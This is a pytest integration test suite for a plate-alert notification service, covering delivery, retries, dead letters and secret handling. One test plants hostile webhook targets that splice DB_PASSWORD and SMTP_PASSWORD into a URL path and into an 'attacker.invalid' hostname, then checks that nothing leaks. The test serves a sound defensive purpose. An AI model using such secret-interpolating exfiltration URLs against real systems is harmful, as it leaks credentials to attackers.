"""Acceptance tests of `stream-worker notify` against the real local broker and real local HTTP
servers: alerts published by the test, the service as a subprocess (so that it can be SIGKILLed),
targets written to their compacted topic as `notify targets set` writes them."""

from __future__ import annotations

import signal
import time
import uuid
from collections import Counter
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson
import pytest
from confluent_kafka import Producer
from service_processes import WAIT_S, ServiceProcess, TopicReader, committed_offsets, wait_until
from store_records import FAKE_JPEG, T0, plate_sighting, sighting_id
from support import serve_http
from typer.testing import CliRunner, Result

from stream_worker.cli import app
from stream_worker.contracts import Box, PlateAlert, Source
from stream_worker.contracts.alerts import MatchKind
from stream_worker.contracts.notify import NotifyDelivery, NotifyTest, decode_status, parse_target
from stream_worker.contracts.watchlist import WatchEntry, WatchKind
from stream_worker.launchers.broker import create_topics
from stream_worker.launchers.mosquitto import Mosquitto, Subscriber
from stream_worker.notify.secrets import ENV_PREFIX as SECRET_ENV_PREFIX
from stream_worker.notify.targets import read_targets, write_target
from stream_worker.service.compacted import read_compacted, write_compacted
from stream_worker.store.web.delivery_log import DeliveryLog
from stream_worker.watchlists.topic import write_changes
from tests.notify.receivers import SECRET, Hook

pytestmark = pytest.mark.integration

PARTITIONS = 3
SECRET_ENV = "NOTIFY_TEST_SECRET"


def recent_deliveries(
    bootstrap: str, topic: str, config: dict[str, str], timeout_s: float
) -> list[NotifyDelivery]:
    """The delivery log as the console shows it (its newest records, read back from the topic)."""
    log = DeliveryLog(bootstrap, topic, config, timeout_s).start()
    try:
        return log.read(1000, timeout_s)
    finally:
        log.close()


def alerts(count: int, camera: str = "gate-1") -> list[PlateAlert]:
    now = datetime.now(UTC)
    return [
        PlateAlert(
            alert_id=str(uuid.uuid4()),
            list="stolen",
            label=None,
            plate="B840CK197",
            match_kind=MatchKind.EXACT,
            distance=0.0,
            candidate="B840CK197",
            confidence=0.9,
            camera_id=camera,
            frame_id=f"{camera}/{k}",
            event_id=f"event-{k}",
            captured_at=now,
            box=Box(x1=400, y1=300, x2=500, y2=330),
            source=Source(topic="plates", partition=0, offset=k),
            frame_source=Source(topic="frames", partition=0, offset=k),
            alerted_at=now,
        )
        for k in range(count)
    ]


def produce(bootstrap: str, topic: str, items: list[PlateAlert]) -> None:
    producer = Producer({"bootstrap.servers": bootstrap, "linger.ms": 0})
    for k, alert in enumerate(items):
        producer.produce(topic, value=alert.to_json(), key=alert.camera_id.encode(), partition=k % PARTITIONS)
        producer.poll(0)
    assert producer.flush(60) == 0


def set_target(bootstrap: str, topic: str, name: str, port: int, **extra: object) -> None:
    url = f"http://127.0.0.1:{port}/hook"
    write_target(
        bootstrap,
        name,
        parse_target({"type": "webhook", "url": url, "secret": f"${{{SECRET_ENV}}}", **extra}),
        topic,
    )


@dataclass
class Topics:
    alerts: str
    targets: str
    dlq: str
    sightings: str
    watchlist: str


@pytest.fixture
def topics(kafka_bootstrap: str, unique_name: str) -> Topics:
    names = Topics(
        *(f"{unique_name}-{kind}" for kind in ("alerts", "targets", "dlq", "sightings", "watchlist"))
    )
    create_topics(kafka_bootstrap, [names.alerts, names.dlq, names.sightings], PARTITIONS)
    return names


@pytest.fixture
def start_notify(tmp_path: Path, kafka_bootstrap: str, topics: Topics, unique_name: str, monkeypatch):
    monkeypatch.setenv(SECRET_ENV_PREFIX + SECRET_ENV, SECRET)  # the service's environment (inherited)
    started: list[ServiceProcess] = []

    def start(*extra: str) -> ServiceProcess:
        args = [
            "--bootstrap-servers", kafka_bootstrap,
            "--group-id", f"{unique_name}-group",
            "--input-topic", topics.alerts,
            "--targets-topic", topics.targets,
            "--dlq-topic", topics.dlq,
            "--sightings-topic", topics.sightings,
            "--sightings-group-id", f"{unique_name}-sightings-group",
            "--visits-topic", f"{unique_name}-visits",
            "--visits-group-id", f"{unique_name}-visits-group",
            "--watchlist-topic", topics.watchlist,
            "--session-timeout-ms", "6000",
            "--metrics-port", "0",
            "--allow-private-targets",
            "--initial-backoff-s", "0.2",
            "--max-backoff-s", "1",
            *extra,
        ]  # fmt: skip
        service = ServiceProcess(
            args, tmp_path / f"notify-{len(started)}.log", command="notify", started="notify started"
        )
        started.append(service.start())
        return service

    yield start
    for service in started:
        if service.is_running():
            service.stop(signal.SIGKILL)


def all_committed(bootstrap: str, group: str, topic: str, count: int) -> bool:
    return (
        sum(max(0, offset) for offset in committed_offsets(bootstrap, group, topic, PARTITIONS).values())
        == count
    )


def test_a_failing_target_delays_no_other_and_gets_everything_or_dead_letters_it(
    kafka_bootstrap, topics, start_notify, unique_name
) -> None:
    healthy, failing, hanging = Hook(), Hook(mode="fail"), Hook(mode="hang")
    with serve_http(Hook().handler()) as dead_port:
        pass  # closed at once: its port refuses connections
    with (
        serve_http(healthy.handler()) as healthy_port,
        serve_http(failing.handler()) as failing_port,
        serve_http(hanging.handler()) as hanging_port,
    ):
        set_target(kafka_bootstrap, topics.targets, "healthy", healthy_port)
        set_target(kafka_bootstrap, topics.targets, "failing", failing_port)
        set_target(kafka_bootstrap, topics.targets, "hanging", hanging_port, timeout_s=0.5)
        set_target(kafka_bootstrap, topics.targets, "dead", dead_port)
        service = start_notify("--retry-budget-s", "20")
        service.wait_ready(WAIT_S)
        sent = alerts(12)
        produce(kafka_bootstrap, topics.alerts, sent)
        ids = {alert.alert_id for alert in sent}

        # The healthy target has everything while the three others are still failing.
        wait_until(
            lambda: set(healthy.acknowledged) == ids, "the healthy target did not get every alert", service
        )
        assert not failing.acknowledged and not hanging.acknowledged
        wait_until(lambda: len(failing.received) > len(ids), "the failing target was not retried", service)
        failing.healed.set()
        hanging.healed.set()
        wait_until(lambda: set(failing.acknowledged) == ids, "the failing target did not recover", service)
        wait_until(lambda: set(hanging.acknowledged) == ids, "the hanging target did not recover", service)

        # The dead one: each alert in the DLQ once its budget is spent, with the target and the error.
        dlq = TopicReader(kafka_bootstrap, topics.dlq, PARTITIONS)
        try:
            wait_until(lambda: dlq.poll(0.2) or len(dlq.records) >= len(ids), "no dead letters", service, 120)
        finally:
            dlq.close()
        assert {PlateAlert.model_validate_json(r.value).alert_id for r in dlq.records} == ids
        assert {r.headers["notify.target"] for r in dlq.records} == {b"dead"}
        assert all(b"ConnectError" in r.headers["error.detail"] for r in dlq.records)
        wait_until(
            lambda: all_committed(kafka_bootstrap, f"{unique_name}-group", topics.alerts, len(ids)),
            "not every offset committed",
            service,
            60,
        )
        assert service.metric('stream_worker_notify_sent_total{target="healthy"}') == len(ids)
        assert service.metric('stream_worker_notify_failed_total{target="dead"}') == len(ids)
        assert service.metric('stream_worker_notify_retried_total{target="failing"}') > 0
        metrics = service.scrape()[1]
        assert service.stop() == 0

    # The same event id on every retry, and every signature checks with the secret.
    retried = Counter(failing.received)
    assert set(retried) == ids and max(retried.values()) > 1
    assert healthy.bad_signatures == failing.bad_signatures == hanging.bad_signatures == 0
    # No secret anywhere: the log, the metrics, the dead letters.
    for text in (
        service.log_path.read_text(),
        metrics,
        *(str(r.headers) + str(r.value) for r in dlq.records),
    ):
        assert SECRET not in text and "s3cret" not in text


def test_sigkilled_mid_delivery_every_alert_is_delivered_after_the_restart(
    kafka_bootstrap, topics, start_notify, unique_name
) -> None:
    slow = Hook(delay_s=0.1)
    with serve_http(slow.handler()) as port:
        set_target(kafka_bootstrap, topics.targets, "slow", port)
        service = start_notify()
        service.wait_ready(WAIT_S)
        sent = alerts(30)
        produce(kafka_bootstrap, topics.alerts, sent)
        wait_until(lambda: len(slow.acknowledged) >= 5, "nothing delivered before the kill", service)
        service.stop(signal.SIGKILL)
        assert len(set(slow.acknowledged)) < len(sent), "all delivered before the kill: too late to test"

        restarted = start_notify()
        restarted.wait_ready(WAIT_S)
        ids = {alert.alert_id for alert in sent}
        wait_until(lambda: set(slow.acknowledged) == ids, "an alert was lost across the SIGKILL", restarted)
        wait_until(
            lambda: all_committed(kafka_bootstrap, f"{unique_name}-group", topics.alerts, len(ids)),
            "not every offset committed",
            restarted,
            60,
        )
        assert restarted.stop() == 0


def test_rules_and_a_target_added_live(kafka_bootstrap, topics, start_notify) -> None:
    gate, chat = Hook(), Hook()
    with serve_http(gate.handler()) as gate_port, serve_http(chat.handler()) as chat_port:
        set_target(kafka_bootstrap, topics.targets, "gate", gate_port, rules={"cameras": ["gate-1"]})
        service = start_notify()
        service.wait_ready(WAIT_S)
        first = alerts(2, "gate-1") + alerts(2, "yard")
        produce(kafka_bootstrap, topics.alerts, first)
        wait_until(lambda: len(gate.acknowledged) == 2, "the gate target did not get its alerts", service)

        set_target(kafka_bootstrap, topics.targets, "chat", chat_port, rules={"lists": ["stolen"]})
        wait_until(lambda: service.metric("stream_worker_notify_targets") == 2, "chat not followed", service)
        second = alerts(3, "yard")
        produce(kafka_bootstrap, topics.alerts, second)
        wait_until(lambda: len(chat.acknowledged) == 3, "the target added live got nothing", service)
        time.sleep(1)
        assert set(gate.acknowledged) == {a.alert_id for a in first if a.camera_id == "gate-1"}
        assert set(chat.acknowledged) == {a.alert_id for a in second}
        assert service.stop() == 0


def test_private_targets_are_refused_without_the_flag(kafka_bootstrap, topics, start_notify) -> None:
    hook = Hook()
    with serve_http(hook.handler()) as port:
        set_target(kafka_bootstrap, topics.targets, "inside", port)
        service = start_notify("--no-allow-private-targets")  # after the fixture's --allow-private-targets
        service.wait_ready(WAIT_S)
        produce(kafka_bootstrap, topics.alerts, alerts(2))
        dlq = TopicReader(kafka_bootstrap, topics.dlq, PARTITIONS)
        try:
            wait_until(lambda: dlq.poll(0.2) or len(dlq.records) >= 2, "no dead letters", service, 60)
        finally:
            dlq.close()
        assert hook.received == []
        details = [r.headers["error.detail"] for r in dlq.records]
        assert all(b"refused: address not allowed" in detail for detail in details), details
        assert not any(b"127.0.0.1" in detail for detail in details)  # where a name resolves is not told
        assert all(b"--allow-private-targets" in detail for detail in details)
        assert service.stop() == 0


def test_mqtt_target_gets_every_alert_across_a_broker_outage(
    kafka_bootstrap, topics, start_notify, unique_name, tmp_path
) -> None:
    broker = Mosquitto(tmp_path / "mosquitto", users={"notify": SECRET, "reader": "reader"}).start()
    try:
        write_target(
            kafka_bootstrap,
            "home",
            parse_target(
                {
                    "type": "mqtt",
                    "host": "127.0.0.1",
                    "port": broker.port,
                    "username": "notify",
                    "password": f"${{{SECRET_ENV}}}",
                    "timeout_s": 1,
                }
            ),
            topics.targets,
        )
        service = start_notify("--retry-budget-s", "120")
        service.wait_ready(WAIT_S)
        subscriber = Subscriber(broker.port, ["stream-worker/+/alert"], "reader", "reader")
        first = alerts(3)
        produce(kafka_bootstrap, topics.alerts, first)
        wait_until(lambda: len(subscriber.messages) >= 3, "the first alerts did not arrive", service)
        subscriber.close()

        broker.stop()
        second = alerts(4)
        produce(kafka_bootstrap, topics.alerts, second)
        wait_until(
            lambda: service.metric('stream_worker_notify_retried_total{target="home"}') > 0,
            "the outage was not retried",
            service,
        )
        broker.start()
        subscriber = Subscriber(broker.port, ["stream-worker/+/alert"], "reader", "reader")
        ids = {alert.alert_id for alert in second}
        received = lambda: {orjson.loads(m.payload)["alert_id"] for m in subscriber.messages}  # noqa: E731
        wait_until(lambda: ids <= received(), "an alert was lost across the broker's outage", service)
        wait_until(
            lambda: all_committed(kafka_bootstrap, f"{unique_name}-group", topics.alerts, 7),
            "not every offset committed",
            service,
            60,
        )
        subscriber.close()
        assert service.stop() == 0
        assert SECRET not in service.log_path.read_text()
    finally:
        broker.stop()


def test_allow_list_and_schedule_one_unknown_vehicle_event(
    kafka_bootstrap, topics, start_notify, unique_name
) -> None:
    write_changes(
        kafka_bootstrap,
        topics.watchlist,
        [
            WatchEntry(plate="A123BC77", list="residents", kind=WatchKind.ALLOW, added_at=T0),
            WatchEntry(plate="B840CK197", list="stolen", added_at=T0),  # watched, not allowed
        ],
    )
    gate, alerts_hook, opener = Hook(), Hook(), Hook()
    with (
        serve_http(gate.handler()) as gate_port,
        serve_http(alerts_hook.handler()) as alerts_port,
        serve_http(opener.handler()) as opener_port,
    ):
        rules = {
            "allow_lists": ["residents"],
            "cameras": ["gate"],
            "timezone": "Europe/Berlin",
            "active_hours": [{"start": "08:00", "end": "20:00"}],  # 07:00-19:00 UTC in March
            "cooldown_s": 60,
        }
        set_target(kafka_bootstrap, topics.targets, "gate", gate_port, rules=rules)
        set_target(kafka_bootstrap, topics.targets, "alerts", alerts_port)
        opens = {"allow_lists": ["residents"], "vehicles": "allowed", "directions": ["approaching"]}
        set_target(kafka_bootstrap, topics.targets, "opener", opener_port, rules=opens)
        service = start_notify("--console-url", "https://plates.example.com/console/")
        service.wait_ready(WAIT_S)
        noon = T0 + timedelta(seconds=3)  # first seen 12:00 UTC, 13:00 in Berlin
        sightings = [
            plate_sighting("unknown", "X999YX99", noon, picture=FAKE_JPEG),
            plate_sighting("unknown-again", "X999YX99", noon + timedelta(seconds=30)),  # the cooldown
            plate_sighting("resident", "A123BC77", noon),
            plate_sighting("resident-misread", "A123BO77", noon),  # O for C: within the distance
            plate_sighting("at-night", "K555KK55", noon + timedelta(hours=9)),  # 22:00 in Berlin
            plate_sighting("other-camera", "K555KK55", noon, camera_id="yard"),
            plate_sighting("watched", "B840CK197", noon + timedelta(minutes=5)),
            plate_sighting("resident-leaving", "A123BC77", noon, direction="receding"),
        ]
        producer = Producer({"bootstrap.servers": kafka_bootstrap, "linger.ms": 0})
        for sighting in sightings:  # one partition: the cooldown sees them in order
            producer.produce(topics.sightings, value=sighting.to_json(), key=b"gate", partition=0)
        assert producer.flush(60) == 0
        wait_until(
            lambda: all_committed(kafka_bootstrap, f"{unique_name}-sightings-group", topics.sightings, 8),
            "not every sighting decided",
            service,
        )
        assert service.stop() == 0
    assert sorted(gate.acknowledged) == sorted([sighting_id("unknown"), sighting_id("watched")])
    assert set(gate.kinds) == {"unknown_vehicle"}
    # The console's address of the picture, in the signed body; a sighting without one has none.
    picture = f"https://plates.example.com/console/api/sightings/{sighting_id('unknown')}/picture"
    assert gate.bodies[sighting_id("unknown")]["picture_url"] == picture
    assert "picture_url" not in gate.bodies[sighting_id("watched")]
    assert gate.bad_signatures == 0
    assert alerts_hook.received == []  # sightings are not alerts
    # The gate opener: the resident arriving, read right or misread, not leaving.
    assert sorted(opener.acknowledged) == sorted([sighting_id("resident"), sighting_id("resident-misread")])
    assert set(opener.kinds) == {"allowed_vehicle"}


def test_the_consoles_test_request_is_delivered_and_every_outcome_is_in_the_delivery_log(
    kafka_bootstrap, topics, start_notify, unique_name
) -> None:
    """As the console writes a "send a test" (a NotifyTest on the tests topic) and reads the
    delivery log (store/web/delivery_log.py): a request older than the service is not sent; a new
    one is a test alert on the target's lane (retried after a 500, with the same event id); each
    attempt and outcome is one log record with the target's answer, and no secret."""
    tests_topic, deliveries_topic = f"{unique_name}-tests", f"{unique_name}-deliveries"
    create_topics(kafka_bootstrap, [deliveries_topic], 1)
    hook = Hook(mode="fail")

    def request_test() -> str:
        test = NotifyTest(test_id=str(uuid.uuid4()), requested_at=datetime.now(UTC))
        write_compacted(kafka_bootstrap, tests_topic, [(b"gate", test.to_json())])
        return test.test_id

    def log() -> list[NotifyDelivery]:
        return recent_deliveries(kafka_bootstrap, deliveries_topic, {}, 10.0)

    with serve_http(hook.handler()) as port:
        set_target(kafka_bootstrap, topics.targets, "gate", port)
        before = request_test()  # made while notify was down: not sent when it starts
        service = start_notify("--tests-topic", tests_topic, "--deliveries-topic", deliveries_topic)
        service.wait_ready(WAIT_S)
        test_id = request_test()
        wait_until(lambda: hook.received.count(test_id) >= 2, "the test was not tried (and retried)", service)
        hook.healed.set()
        wait_until(lambda: test_id in hook.acknowledged, "the test alert was not delivered", service)
        [alert] = alerts(1)
        produce(kafka_bootstrap, topics.alerts, [alert])
        wait_until(lambda: alert.alert_id in hook.acknowledged, "the alert was not delivered", service)

        def logged() -> set[tuple[str, str, str, int | None]]:
            return {(d.event_id, d.kind, d.outcome.value, d.status) for d in log()}

        wait_until(lambda: (alert.alert_id, "alert", "sent", 200) in logged(), "no log of the alert", service)
        assert {(test_id, "test", "retried", 500), (test_id, "test", "sent", 200)} <= logged()
        assert before not in hook.received
        assert hook.kinds[hook.received.index(test_id)] == "alert"  # a PlateAlert, as real ones are
        assert hook.bad_signatures == 0
        records = log()
        assert {d.target for d in records} == {"gate"}
        assert all(SECRET not in d.model_dump_json() for d in records)
        assert service.stop() == 0


DB_PASSWORD, SMTP_PASSWORD = "TopSecretDbPw-42", "SmtpPw-77"  # notify's own, not meant for targets


def test_a_target_names_no_variable_of_notify_and_no_url_or_secret_is_logged(
    kafka_bootstrap, topics, start_notify, unique_name, monkeypatch, tmp_path
) -> None:
    """Whoever edits the targets cannot make notify send its other variables anywhere (a URL's path,
    query or host; an MQTT password), nor learn whether one exists; neither notify's log (an HTTP
    library's own lines included) nor the delivery log holds a URL's path or a secret, in any case."""
    monkeypatch.setenv("DB_PASSWORD", DB_PASSWORD)  # notify's environment (inherited)
    monkeypatch.setenv("SMTP_PASSWORD", SMTP_PASSWORD)
    deliveries_topic = f"{unique_name}-deliveries"
    create_topics(kafka_bootstrap, [deliveries_topic], 1)
    broker = Mosquitto(tmp_path / "mosquitto", users={"notify": DB_PASSWORD, "reader": "reader"}).start()
    hook = Hook()
    try:
        with serve_http(hook.handler()) as port:
            # As a hostile writer (or a record older than the contract's rule) puts them on the topic.
            hostile = {
                "exfil": {
                    "type": "webhook",
                    "url": f"http://127.0.0.1:{port}/exfil/${{DB_PASSWORD}}?x=${{SMTP_PASSWORD}}",
                },
                "dns": {"type": "webhook", "url": "https://${SMTP_PASSWORD}.attacker.invalid/"},
            }
            write_compacted(
                kafka_bootstrap,
                topics.targets,
                [(name.encode(), orjson.dumps(target)) for name, target in hostile.items()],
            )
            mqtt = {"type": "mqtt", "host": "127.0.0.1", "port": broker.port, "username": "notify"}
            write_target(
                kafka_bootstrap,
                "home",
                parse_target({**mqtt, "password": "${DB_PASSWORD}", "timeout_s": 1}),
                topics.targets,
            )
            plain = f"http://127.0.0.1:{port}/hook/PlainPathToken"
            write_target(
                kafka_bootstrap, "plain", parse_target({"type": "webhook", "url": plain}), topics.targets
            )
            service = start_notify("--deliveries-topic", deliveries_topic, "--retry-budget-s", "5")
            service.wait_ready(WAIT_S)
            subscriber = Subscriber(broker.port, ["stream-worker/+/alert"], "reader", "reader")
            sent = alerts(2)
            produce(kafka_bootstrap, topics.alerts, sent)
            ids = {alert.alert_id for alert in sent}

            def logged() -> list[NotifyDelivery]:
                return recent_deliveries(kafka_bootstrap, deliveries_topic, {}, 10.0)

            wait_until(lambda: set(hook.acknowledged) == ids, "the plain target got nothing", service)
            wait_until(
                lambda: {("home", "held")} <= {(d.target, d.outcome.value) for d in logged()},
                "the MQTT target's delivery was not held",
                service,
            )
            time.sleep(1)
            dlq = TopicReader(kafka_bootstrap, topics.dlq, PARTITIONS)
            dlq.poll(2)
            dlq.close()
            records = logged()
            subscriber.close()
            skipped = service.metric("stream_worker_notify_targets_skipped_total")
            assert service.stop() == 0
    finally:
        broker.stop()
    assert hook.paths == ["/hook/PlainPathToken"] * len(ids)  # nothing reached /exfil
    assert subscriber.messages == []  # the broker never got DB_PASSWORD as a password
    assert skipped == 2 and dlq.records == []  # the held MQTT delivery is not dead-lettered
    held = [d for d in records if d.target == "home"]
    assert held and all("DB_PASSWORD" in (d.error or "") for d in held)
    texts = [service.log_path.read_text(), *(d.model_dump_json() for d in records)]
    for text in (t.lower() for t in texts):
        assert DB_PASSWORD.lower() not in text and SMTP_PASSWORD.lower() not in text
        assert "plainpathtoken" not in text and "http request" not in text
        assert "environment variable" not in text  # nothing says whether a variable exists


def test_secrets_change_without_a_restart_and_a_missing_one_holds_deliveries(
    kafka_bootstrap, topics, start_notify, unique_name, tmp_path
) -> None:
    """A target whose secrets (a secret URL, a signing key) are not in notify's secrets file holds
    its alerts past the retry budget, dead-letters none; a file others may read is refused; once
    the file is right (no restart) every alert goes out, signed, to the secret URL, logged nowhere."""
    secrets = tmp_path / "notify-secrets.env"
    secrets.write_text("# target secrets\n")
    secrets.chmod(0o600)
    hook = Hook()
    with serve_http(hook.handler()) as port:
        chat = parse_target({"type": "webhook", "url": "${CHAT_URL}", "secret": "${LATE_SECRET}"})
        write_target(kafka_bootstrap, "chat", chat, topics.targets)
        service = start_notify("--secrets-file", str(secrets), "--retry-budget-s", "2")
        service.wait_ready(WAIT_S)
        sent = alerts(3)
        produce(kafka_bootstrap, topics.alerts, sent)
        ids = {alert.alert_id for alert in sent}
        service.wait_for_log(lambda line: "delivery held" in line.get("msg", ""), "a held delivery")
        time.sleep(3)  # past the retry budget: still held
        secrets.write_text(
            f"CHAT_URL=http://127.0.0.1:{port}/services/T0/B0/ChatPathToken\nLATE_SECRET={SECRET}\n"
        )
        secrets.chmod(0o644)  # readable by others: refused
        service.wait_for_log(lambda line: "secrets file refused" in line.get("msg", ""), "the refusal")
        time.sleep(2)
        assert hook.received == []
        assert service.metric('stream_worker_notify_held_total{target="chat"}') >= 1
        secrets.chmod(0o600)
        wait_until(lambda: set(hook.acknowledged) == ids, "the held alerts were not delivered", service)
        wait_until(
            lambda: all_committed(kafka_bootstrap, f"{unique_name}-group", topics.alerts, len(ids)),
            "not every offset committed",
            service,
            60,
        )
        dlq = TopicReader(kafka_bootstrap, topics.dlq, PARTITIONS)
        dlq.poll(2)
        dlq.close()
        assert service.stop() == 0
    assert dlq.records == []
    assert set(hook.paths) == {"/services/T0/B0/ChatPathToken"} and hook.bad_signatures == 0
    text = service.log_path.read_text().lower()
    assert "chatpathtoken" not in text and "s3cret" not in text


def test_targets_set_warns_of_a_secret_that_notify_lacks(
    kafka_bootstrap, topics, start_notify, unique_name, tmp_path
) -> None:
    """notify says which target secrets it has (names only, on the status topic); `targets set`
    warns of a target naming one it lacks, before any alert is held, and stores it all the same."""
    status_topic = f"{unique_name}-status"
    secrets = tmp_path / "notify-secrets.env"
    secrets.write_text(f"HOOK_SECRET={SECRET}\n")
    secrets.chmod(0o600)
    service = start_notify("--secrets-file", str(secrets), "--status-topic", status_topic)
    service.wait_ready(WAIT_S)
    runner = CliRunner()

    def set_target_file(name: str, text: str) -> Result:
        path = tmp_path / f"{name}.yaml"
        path.write_text(text)
        args = ["notify", "targets", "set", name, "--file", str(path), "--status-topic", status_topic]
        args += ["--bootstrap-servers", kafka_bootstrap, "--topic", topics.targets, "--timeout", "10"]
        return runner.invoke(app, args)

    def has_status() -> bool:
        return bool(read_compacted(kafka_bootstrap, status_topic, decode_status).values)

    wait_until(has_status, "notify did not say which secrets it has", service)
    good = set_target_file("good", "type: webhook\nurl: https://a.example/x\nsecret: ${HOOK_SECRET}\n")
    assert good.exit_code == 0 and "warning" not in good.output, good.output
    lacking = set_target_file("lacking", "type: webhook\nurl: ${CHAT_URL}\nsecret: ${HOOK_SECRET}\n")
    assert lacking.exit_code == 0, lacking.output
    assert "warning: notify has no secret CHAT_URL" in lacking.output and "held" in lacking.output
    assert set(read_targets(kafka_bootstrap, topics.targets).values) == {"good", "lacking"}
    [status] = read_compacted(kafka_bootstrap, status_topic, decode_status).values.values()
    assert status.secrets == ("HOOK_SECRET", SECRET_ENV) and SECRET not in status.model_dump_json()
    assert service.stop() == 0


def test_dlq_replay_sends_a_targets_dead_letters_again_with_their_event_ids(
    kafka_bootstrap, topics, start_notify, unique_name
) -> None:
    gate, other = Hook(mode="fail"), Hook(mode="fail")
    replays_topic = f"{unique_name}-replays"
    runner = CliRunner()

    def replay(*args: str) -> Result:
        common = ["--dlq-topic", topics.dlq, "--replays-topic", replays_topic]
        common += ["--bootstrap-servers", kafka_bootstrap, "--timeout", "20"]
        return runner.invoke(app, ["notify", "dlq", "replay", *args, *common])

    with serve_http(gate.handler()) as gate_port, serve_http(other.handler()) as other_port:
        set_target(kafka_bootstrap, topics.targets, "gate", gate_port)
        set_target(kafka_bootstrap, topics.targets, "other", other_port)
        status_topic = f"{unique_name}-status"
        service = start_notify(
            "--retry-budget-s", "1", "--replays-topic", replays_topic, "--status-topic", status_topic
        )
        service.wait_ready(WAIT_S)
        sent = alerts(3)
        produce(kafka_bootstrap, topics.alerts, sent)
        ids = {alert.alert_id for alert in sent}
        dlq = TopicReader(kafka_bootstrap, topics.dlq, PARTITIONS)
        try:
            wait_until(lambda: dlq.poll(0.2) or len(dlq.records) >= 6, "no dead letters", service, 60)
        finally:
            dlq.close()

        def dead_letters() -> dict[str, int] | None:
            status = read_compacted(kafka_bootstrap, status_topic, decode_status).values.get("notify")
            return status.dead_letters if status is not None else None

        wait_until(
            lambda: dead_letters() == {"gate": 3, "other": 3},
            "notify did not count the dead letters",
            service,
        )
        gate.healed.set()
        other.healed.set()
        later = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
        none = replay("--target", "gate", "--since", later)
        assert none.exit_code == 0 and "replayed 0 dead letter(s)" in none.output, none.output
        replayed = replay("--target", "gate")
        assert replayed.exit_code == 0 and "replayed 3 dead letter(s)" in replayed.output, replayed.output
        wait_until(lambda: set(gate.acknowledged) == ids, "the dead letters were not sent again", service)
        time.sleep(2)
        assert service.stop() == 0
    assert other.acknowledged == []  # another target's dead letters are not replayed
    assert Counter(gate.acknowledged) == Counter(ids) and gate.bad_signatures == 0
